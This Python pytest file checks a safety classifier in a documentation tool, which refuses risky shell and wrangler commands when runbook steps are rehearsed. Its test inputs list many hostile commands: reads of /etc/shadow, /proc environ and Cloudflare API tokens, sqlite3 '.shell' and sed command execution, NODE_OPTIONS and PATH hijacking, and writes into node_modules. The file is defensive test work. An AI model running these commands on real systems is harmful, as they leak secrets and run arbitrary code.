"""The classifier against spellings that change what wrangler or a tool does: each class refused (or
read as wrangler reads it) in several spellings, in rehearse and remote-read blocks."""

from __future__ import annotations

import pytest

from opsdocs.errors import PageError
from opsdocs.steps import Step, check_safety, classify

MODES = ("rehearse", "remote-read")


def step(command: str, mode: str) -> Step:
    return Step(page="docs/p.md", line=3, mode=mode, command=command, title=None,  # type: ignore[arg-type]
                why=None, expect=None, expect_re=None)


def refused(command: str, mode: str = "rehearse") -> str:
    with pytest.raises(PageError) as info:
        check_safety(step(command, mode))
    assert info.value.line is not None and info.value.line > 3
    return info.value.message


def allowed(command: str, mode: str = "rehearse") -> None:
    check_safety(step(command, mode))


def target(command: str) -> tuple[bool, str]:
    (cmd,) = classify(command)
    return cmd.mutating, cmd.target


# --- booleans as yargs reads them -------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "wrangler deploy --dry-run false", "wrangler deploy --dry-run=false", "wrangler deploy --dry-run=yes",
    "wrangler deploy --dry-run=1", "wrangler deploy --dry-run=no", "wrangler deploy --no-dry-run",
    "wrangler deploy --dry-run --no-dry-run", "wrangler deploy --no-dry-run --dry-run",
    "wrangler deploy --dry-run --dry-run=false", "wrangler deploy --dryRun=false",
    "wrangler versions upload --dry-run=0", "wrangler deploy --dry-run --dry-run",
])
def test_a_dry_run_that_is_not_one_deploys(command: str) -> None:
    assert target(command) == (True, "remote")
    for mode in MODES:
        assert "remote Cloudflare resource" in refused(command, mode)


@pytest.mark.parametrize("command", [
    "wrangler deploy --dry-run", "wrangler deploy --dry-run=true", "wrangler deploy --dry-run true",
    "wrangler deploy --dryRun", "wrangler deploy --outdir dist --dry-run",
])
def test_real_dry_runs(command: str) -> None:
    assert target(command) == (False, "local")


@pytest.mark.parametrize("command", [
    "wrangler d1 execute db --command 'DELETE FROM t' --local false",
    "wrangler d1 execute db --command 'DELETE FROM t' --local=false",
    "wrangler d1 execute db --command 'DELETE FROM t' --no-local",
    "wrangler d1 execute db --command 'DELETE FROM t' --remote --local",
    "wrangler d1 execute db --command 'DELETE FROM t' --remote=true",
    "wrangler d1 execute db --command 'DELETE FROM t' --remote true",
    "wrangler d1 execute db --command 'DELETE FROM t' --local --local",
    "wrangler d1 execute db --command 'DELETE FROM t' --no-remote --remote",
    "wrangler d1 execute db --command 'DELETE FROM t' --remote --no-remote",
    "wrangler d1 migrations apply db --local=yes --remote",
    "wrangler dev -r", "wrangler dev --remote", "wrangler dev --remote=true", "wrangler dev -r true",
    "wrangler dev --remote --remote=false",
])
def test_local_that_is_not_local(command: str) -> None:
    mutating, where = target(command)
    assert where == "remote"
    assert refused(command, "rehearse")


@pytest.mark.parametrize("command", [
    "wrangler d1 execute db --command 'DELETE FROM t' --remote=false",
    "wrangler d1 execute db --command 'DELETE FROM t' --remote false",
    "wrangler d1 execute db --command 'DELETE FROM t' --no-remote",
    "wrangler d1 execute db --command 'DELETE FROM t' --local",
    "wrangler d1 execute db --command 'DELETE FROM t' --local=true",
    "wrangler d1 execute db --command 'DELETE FROM t'",
    "wrangler dev --remote=false", "wrangler dev",
])
def test_local_spellings_stay_local(command: str) -> None:
    assert target(command)[1] == "local"


# --- help and version only where yargs honours them -------------------------------------------------

@pytest.mark.parametrize("command", [
    "wrangler deploy -v", "wrangler deploy --version", "wrangler -v deploy", "wrangler rollback --version",
    "wrangler deploy --help=false", "wrangler deploy --help false", "wrangler deploy --no-help",
    "wrangler deploy --help --help=false", "wrangler deploy -h false", "wrangler deploy -- --help",
    "wrangler d1 execute db --remote --command 'DROP TABLE t' -v",
])
def test_help_and_version_that_do_not_stop_the_command(command: str) -> None:
    assert target(command) == (True, "remote")
    assert refused(command, "remote-read")


@pytest.mark.parametrize("command", ["wrangler deploy --help", "wrangler deploy -h", "wrangler --version",
                                     "wrangler -v", "wrangler deploy --help=true", "wrangler d1 --help"])
def test_help_and_version_that_do(command: str) -> None:
    assert target(command) == (False, "local")


def test_short_flag_groups_are_read_letter_by_letter() -> None:
    assert target("wrangler dev -rj")[1] == "remote"


# --- anything not resolvable statically: refused -----------------------------------------------------

@pytest.mark.parametrize("command", [
    "wrangler d1 execute db --command 'SELECT 1' $FLAG",
    "wrangler d1 execute db --command 'SELECT 1' ${FLAG}",
    'wrangler d1 execute db --command "SELECT 1" "$FLAG"',
    'wrangler d1 execute db --command "SELECT 1" "${X:---remote}"',
    "wrangler d1 execute db --command 'SELECT 1' $'--remote'",
    "wrangler d1 execute db --command 'SELECT 1' $\"--remote\"",
    "wrangler d1 execute db --command 'SELECT 1' --{remote,local}",
    "wrangler d1 execute db --command 'SELECT 1' {--remote,}",
    "wrangler d1 execute db --command 'SELECT 1' -*",
    "wrangler d1 execute db --command 'SELECT 1' *",
    "wrangler d1 execute db --command 'SELECT 1' --re?ote",
    "wrangler d1 execute db --command 'SELECT 1' [-]-remote",
    "cat ~/.wrangler/config/default.toml",
    "echo $CLOUDFLARE_API_TOKEN", "echo ${CLOUDFLARE_API_TOKEN}", 'echo "$CLOUDFLARE_API_TOKEN"',
    "cat /proc/$PPID/environ", "ls {/etc,/root}",
])
@pytest.mark.parametrize("mode", MODES)
def test_words_bash_would_change_are_refused(command: str, mode: str) -> None:
    refused(command, mode)


@pytest.mark.parametrize("command", ['opsdocs health --base-url "$OPSDOCS_BASE_URL"', "ls migrations/*.sql",
                                     "grep -c CREATE migrations/0001_init.sql", 'echo "a{b,c}"'])
def test_known_words_still_run(command: str) -> None:
    allowed(command, "remote-read")


# --- the environment around a program -----------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "NODE_OPTIONS='--require ./x.js' npx wrangler d1 migrations list db --local",
    "PATH=.:$PATH wrangler whoami", "PATH=. wrangler d1 list", "CURL_HOME=. curl http://127.0.0.1:8787/",
    "export NODE_OPTIONS=--require=./x.js", "export PATH=.", "declare -x NODE_OPTIONS=x", "X=1",
    "CDPATH=/ cd etc", "env NODE_OPTIONS=x wrangler d1 list", "set -a", "source ./x.sh", ". ./x.sh",
    "eval wrangler deploy", "exec wrangler deploy", "command wrangler deploy", "a[0]=1", "X+=1 wrangler d1 list",
    "npm_config_userconfig=./npmrc npx wrangler d1 list",
])
@pytest.mark.parametrize("mode", MODES)
def test_environment_changes_are_refused(command: str, mode: str) -> None:
    refused(command, mode)


@pytest.mark.parametrize("command", [
    "echo 'node-options=--require ./x.js' > .npmrc", "echo x >> worker/.npmrc", "cp a .curlrc",
    "tee .env < /dev/null", "touch .dev.vars", "echo 'x' > _curlrc", "mv x .dev.vars.production",
])
def test_writing_a_tool_config_is_refused(command: str) -> None:
    refused(command)


# --- allow-listed programs that write or run something ------------------------------------------------

@pytest.mark.parametrize("command", [
    "sort -o /tmp/x a.txt", "sort --output=/tmp/x a.txt", "sort -o out.txt a.txt", "sort -uo/tmp/x a.txt",
    "sort --compress-program=sh a.txt", "sort -T /tmp a.txt", "sort --files0-from=/etc/x",
    "uniq a.txt /tmp/out", "uniq a.txt out.txt", "printf -v PATH .", "date -s 2020-01-01", "date --set=x",
    "jq --rawfile t /proc/self/environ -n '$t'", "jq -f /tmp/prog.jq x.json", "jq -L /tmp 'import \"x\" as x; .'",
    "tail -f log.txt --pid=1", "grep -f /etc/shadow x", "cat /proc/1/environ", "head /etc/passwd",
    "ls /root", "diff /etc/passwd x", "wc --files0-from=/x", "cp --target-directory=/tmp a",
    "sed -i.bak s/a/b/ x", "sed -i'/tmp/*' s/a/b/ x", "sed --in-place=/tmp/ s/a/b/ x", "sed -i -e 's/a/b/w /tmp/x' f",
    "sed -e '1e id' f", "sed 's/a/b/e' f", "sed -f script.sed f", "sed -s -i~ s/a/b/ x",
    "sqlite3 db.sqlite \"SELECT writefile('/tmp/x', 'y')\"", "sqlite3 db.sqlite \"VACUUM INTO '/tmp/x'\"",
    "sqlite3 db.sqlite \"vacuum main into '/tmp/x'\"", "sqlite3 db.sqlite .edit", "sqlite3 db.sqlite '.shell id'",
    "sqlite3 db.sqlite '.system id'", "sqlite3 db.sqlite \"SELECT edit('x', 'vi')\"", "sqlite3 db.sqlite '.output /tmp/x'",
    "sqlite3 db.sqlite '.once /tmp/x'", "sqlite3 db.sqlite '.save /tmp/x'", "sqlite3 db.sqlite '.backup /tmp/x'",
    "sqlite3 db.sqlite \"SELECT load_extension('/tmp/x.so')\"", "sqlite3 db.sqlite \"SELECT readfile('/etc/passwd')\"",
    "sqlite3 db.sqlite $'SELECT 1;\\n.shell id'", "sqlite3 -cmd '.shell id' db.sqlite", "sqlite3 db.sqlite '.import /etc/passwd t'",
    "sqlite3 db.sqlite \"ATTACH '/tmp/x' AS y\"", "sqlite3 /tmp/x.sqlite 'SELECT 1'",
])
@pytest.mark.parametrize("mode", MODES)
def test_tools_that_write_or_execute_are_refused(command: str, mode: str) -> None:
    refused(command, mode)


@pytest.mark.parametrize("command", [
    "sort -n a.txt", "sort -k2 -t, a.txt", "sort -rn a.txt | uniq -c", "sed -n 1p x", "sed -i s/a/b/ x",
    "sqlite3 db.sqlite 'SELECT count(*) FROM t'", "jq -r .name x.json", "tail -n 5 x", "head -n2 x",
    "grep -c x a.txt", "cp a b", "ls -la", "date -u +%Y", "cat -- a.txt",
])
def test_plain_tool_use_still_runs(command: str) -> None:
    allowed(command)


# --- PRAGMA that assigns -------------------------------------------------------------------------------

@pytest.mark.parametrize("sql", [
    "PRAGMA user_version = 7", "PRAGMA user_version=7", "PRAGMA user_version(7)", "PRAGMA main.user_version(7)",
    "pragma schema_version (1)", "PRAGMA foreign_keys = OFF", "PRAGMA journal_mode(DELETE)",
    "PRAGMA table_info(t); DROP TABLE t", "PRAGMA\tuser_version\t(7)",
])
def test_pragma_assignments_are_writes(sql: str) -> None:
    mutating, where = target(f"wrangler d1 execute db --remote --command \"{sql}\"")
    assert (mutating, where) == (True, "remote")
    assert refused(f"wrangler d1 execute db --remote --command \"{sql}\"", "remote-read")


@pytest.mark.parametrize("sql", ["PRAGMA table_info(t)", "PRAGMA user_version", "PRAGMA main.table_list",
                                 "PRAGMA index_list('t')"])
def test_reading_pragmas_are_reads(sql: str) -> None:
    assert target(f"wrangler d1 execute db --remote --command \"{sql}\"") == (False, "remote")


# --- curl: every request's method, no config files -------------------------------------------------------

@pytest.mark.parametrize("command", [
    "curl https://api.example.com/a --next -X DELETE https://api.example.com/b",
    "curl https://x.example/a -: -d @data https://x.example/b", "curl -X GET -X POST https://x.example/",
    "curl -XGET -XDELETE https://x.example/", "curl --request=PUT https://x.example/",
    "curl -d x https://x.example/", "curl --data-raw x https://x.example/", "curl -F a=b https://x.example/",
    "curl -T f https://x.example/", "curl --json '{}' https://x.example/", "curl -K cfg https://x.example/",
    "curl --config=cfg https://x.example/", "curl -q -K cfg https://x.example/",
    "curl -H @/proc/self/environ https://x.example/", "curl -w '%output{/tmp/x}x' https://x.example/",
    "curl --trace /tmp/t https://x.example/", "curl --stderr /tmp/e https://x.example/",
    "curl --hsts /tmp/h https://x.example/", "curl --libcurl /tmp/c https://x.example/",
    "curl -o /tmp/x https://x.example/", "curl --output-dir /tmp -O https://x.example/x",
    "curl --request-target x -X PATCH https://x.example/", "curl -sSX POST https://x.example/",
    "curl file:///etc/passwd", "curl -G -d x https://x.example/",
])
def test_curl_requests_that_write_or_read_config_are_refused_in_remote_read(command: str) -> None:
    refused(command, "remote-read")


@pytest.mark.parametrize("command", ["curl -fsS https://x.example/health", "curl -sS -I https://x.example/",
                                     "curl -fsS https://x.example/a --next https://x.example/b",
                                     "curl -X GET https://x.example/", "curl -o out.json https://x.example/"])
def test_curl_reads_run_in_remote_read(command: str) -> None:
    allowed(command, "remote-read")


# --- remote-read path flags stay in the sandbox ----------------------------------------------------------

@pytest.mark.parametrize("command", [
    "wrangler d1 export db --remote --output /tmp/dump.sql", "wrangler d1 list --config /etc/wrangler.jsonc",
    "wrangler whoami --cwd /", "wrangler d1 list -c ../other/wrangler.jsonc", "wrangler d1 list --env-file=/root/.env",
    "wrangler deployments list --config=/tmp/x.jsonc",
])
def test_remote_read_path_flags_are_confined(command: str) -> None:
    refused(command, "remote-read")


# --- expected-output regexes run with a time bound -------------------------------------------------------

@pytest.mark.parametrize("pattern", [r"^(a+)+$", r"^(a|aa)+$", r"^(a|a?)+$", r"(x+x+)+y"])
def test_catastrophic_expect_re_is_a_failure_not_a_hang(pattern: str) -> None:
    from opsdocs.steps._proc import ProcResult
    from opsdocs.steps.run import judge

    s = Step(page="docs/p.md", line=3, mode="rehearse", command="true", title=None, why=None,  # type: ignore[arg-type]
             expect=None, expect_re=pattern)
    # 40 characters: Python's re backtracks here for longer than the universe has existed
    problem = judge(s, ProcResult(0, ("a" * 40 + "!") if "x" not in pattern else "x" * 40, 0.1, False))
    assert problem is not None
    assert "did not finish" in problem or "it does not" in problem  # bounded either way: judged, not hung


# --- wrangler 4.164: --install-skills (global) and dev --tunnel -------------------------------------

@pytest.mark.parametrize("command", [
    "wrangler dev --tunnel", "npx wrangler dev --tunnel=true", "wrangler dev --tunnel true",
    "wrangler dev --tunnel-name ops --tunnel", "wrangler dev --local --tunnel", "wrangler dev --no-tunnel --tunnel",
    "wrangler dev --tunnel --no-tunnel",  # given twice: the dangerous reading
    "wrangler d1 list --install-skills", "wrangler --install-skills whoami", "wrangler deploy --help --install-skills",
    "wrangler d1 execute DB --local --command 'SELECT 1' --install-skills=true", "wrangler types --install-skills",
])
@pytest.mark.parametrize("mode", MODES)
def test_tunnels_and_skill_installs_leave_the_machine(command: str, mode: str) -> None:
    assert target(command)[1] == "remote"
    refused(command, mode)


@pytest.mark.parametrize("command", ["wrangler dev --tunnel=false", "wrangler dev --no-tunnel",
                                     "wrangler types --install-skills=false", "wrangler dev -l",
                                     "wrangler types --install-skills=yes"])  # yargs: only "true" is true
def test_tunnel_and_skills_turned_off_stay_local(command: str) -> None:
    assert target(command) == (False, "local")


# --- re-attacks of this session: node_modules writes, sqlite URIs, `types PATH`, opsdocs health options ---

@pytest.mark.parametrize("command", [
    "cp x node_modules/.bin/wrangler", "mv evil.js ./node_modules/wrangler/bin/wrangler.js",
    "rm -rf node_modules/wrangler", "touch node_modules/.package-lock.json", "mkdir -p node_modules/evil",
    "echo x > node_modules/wrangler/package.json", "echo x >> ./node_modules/.bin/npx", "echo x 1<>node_modules/y",
    "tee node_modules/a", "sed -i s/a/b/ node_modules/wrangler/bin/wrangler.js",
    "cp -t node_modules/.bin x", "cp --target-directory=node_modules x",
    "npx wrangler d1 execute DB --local --persist-to node_modules/s --command 'SELECT 1'",
    "sqlite3 node_modules/x.db 'CREATE TABLE t(a)'", "curl -o node_modules/x http://127.0.0.1:8787",
])
@pytest.mark.parametrize("mode", MODES)
def test_writes_into_the_shared_node_modules_are_refused(command: str, mode: str) -> None:
    refused(command, mode)


@pytest.mark.parametrize("command", ["cat node_modules/wrangler/package.json",
                                     "cat < node_modules/wrangler/package.json", "ls node_modules/.bin"])
def test_reading_node_modules_still_runs(command: str) -> None:
    allowed(command)


@pytest.mark.parametrize("command", [
    "sqlite3 'file:/tmp/x.db?mode=rwc' 'CREATE TABLE t(a)'", "sqlite3 'file:x.db?vfs=unix-none' 'SELECT 1'",
    "sqlite3 FILE:../x.db 'SELECT 1'", "sqlite3 -readonly file:db.sqlite 'SELECT 1'",
])
@pytest.mark.parametrize("mode", MODES)
def test_sqlite_uri_filenames_are_refused(command: str, mode: str) -> None:
    refused(command, mode)


@pytest.mark.parametrize("command", [
    "npx wrangler types /tmp/env.d.ts", "wrangler types ../../env.d.ts", "wrangler types ~/x.d.ts",
    "wrangler types node_modules/@types/x.d.ts", "wrangler types --env production /etc/x.d.ts",
])
@pytest.mark.parametrize("mode", MODES)
def test_wrangler_types_cannot_write_outside(command: str, mode: str) -> None:
    refused(command, mode)


@pytest.mark.parametrize("command", ["wrangler dev --tunnel-name ops", "wrangler dev --tunnel-allowed-mail=a@b.c",
                                     "wrangler dev --tunnelName=ops"])
def test_tunnel_options_alone_fail_closed(command: str) -> None:
    assert target(command)[1] == "remote"


@pytest.mark.parametrize("command", [
    "opsdocs health --base-url http://127.0.0.1:8787 --base http://evil.example",
    "opsdocs health --base http://127.0.0.1:8787",
    "opsdocs health --base-url http://127.0.0.1:8787 --base-url=http://evil.example",
    "opsdocs health --base-url http://127.0.0.1:8787 --checks /tmp/health.yml",
    "opsdocs health --base-url http://127.0.0.1:8787 --checks=../../x.yml",
    "opsdocs health --base-url http://127.0.0.1:8787 --root /",
    "opsdocs health --base-url http://127.0.0.1:8787 --report out.json",
])
@pytest.mark.parametrize("mode", MODES)
def test_opsdocs_health_options_are_exact_and_confined(command: str, mode: str) -> None:
    refused(command, mode)


def test_opsdocs_health_plain_still_runs() -> None:
    allowed("opsdocs health --base-url http://127.0.0.1:8787 --checks checks/health.yml --json")
    allowed('opsdocs health --base-url "$OPSDOCS_BASE_URL"', "remote-read")


# yargs-parser reads a short group letter by letter, but hands a letter the rest of the word when that rest
# is a number, "-" or starts with a non-word character: `deploy -h0` is help="0" (false) and deploys,
# as the pinned wrangler does (checked by hand: it starts the deploy); `-hv0` still shows help.
@pytest.mark.parametrize("command", ["wrangler deploy -h0", "wrangler deploy -h1", "wrangler deploy -h-",
                                     "wrangler deploy -h.5", "wrangler deploy -vh0", "npx wrangler deploy -h1e3"])
def test_a_help_flag_with_a_number_glued_on_is_not_help(command: str) -> None:
    assert "changes a remote Cloudflare resource" in refused(command)


def test_help_before_a_glued_number_is_still_help() -> None:
    allowed("wrangler deploy -hv0")  # -h, then -v="0": wrangler prints the help and exits


# A value flag takes the next word only when it does not look like a flag: `--command --remote` gives
# command "" and --remote a flag of its own.
@pytest.mark.parametrize("command", [
    "wrangler d1 execute DB --local --command --remote",
    "wrangler d1 execute DB --persist-to --remote --command 'DELETE FROM t'",
    "wrangler d1 execute DB -c --remote --command 'DELETE FROM t'",
])
def test_a_value_flag_does_not_swallow_a_flag(command: str) -> None:
    assert "remote" in refused(command) or "reaches Cloudflare" in refused(command)


@pytest.mark.parametrize("command", [
    "npx wrangler d1 migrations apply DB --remote.x", "npx wrangler d1 migrations apply DB --local --remote.on=1",
    "npx wrangler deploy --dry-run --dry-run.x", "npx wrangler dev --tunnel.enabled", "wrangler deploy --no-dry-run.x",
])
@pytest.mark.parametrize("mode", MODES)
def test_yargs_dot_notation_is_refused(command: str, mode: str) -> None:
    assert "dot-notation" in refused(command, mode)


# In a monorepo whose migrations live outside the Worker's folder, the sandbox mirrors the repository that
# far up: `..` may climb that many folders (the drills write into ../../packages/db/drizzle), never more,
# and `cd ..` never (the working folder is not followed).
@pytest.mark.parametrize(("command", "levels", "ok"), [
    ("printf x > ../../packages/db/drizzle/9_x.sql", 2, True),
    ("ls ../../packages/db/drizzle", 2, True),
    ("printf x > ../../../x", 2, False),
    ("printf x > a/../../../../x", 2, False),
    ("printf x > link/../../x", 2, False),
    ("printf x > ../x", 0, False),
    ("cd ../..", 2, False),
    ("printf x > ../../node_modules/x.js", 2, False),
])
def test_dot_dot_climbs_only_as_far_as_the_mirrored_repository(command: str, levels: int, ok: bool) -> None:
    from opsdocs.steps._paths import reaching_above

    with reaching_above(levels):
        if ok:
            check_safety(step(command, "rehearse"))
        else:
            with pytest.raises(PageError):
                check_safety(step(command, "rehearse"))


# A rehearsal runs the project's own wrangler; a page that names another one (a version, another package)
# would be proved with one program and copied as another.
@pytest.mark.parametrize("command", ["npx wrangler@3 deploy --dry-run", "npx -y wrangler@latest whoami",
                                     "npx --package=evil wrangler deploy --dry-run", "npx -p evil wrangler whoami",
                                     "pnpm dlx wrangler@4.0.0 d1 list", "bunx wrangler@beta --version"])
@pytest.mark.parametrize("mode", MODES)
def test_another_wrangler_than_the_projects_is_refused(command: str, mode: str) -> None:
    refused(command, mode)


@pytest.mark.parametrize("mode", MODES)
def test_a_remote_export_is_refused_since_it_blocks_the_database(mode: str) -> None:
    assert "serve no queries" in refused("npx wrangler d1 export ledger-db --remote --output x.sql", mode)
    allowed("npx wrangler d1 export ledger-db --local --output x.sql")
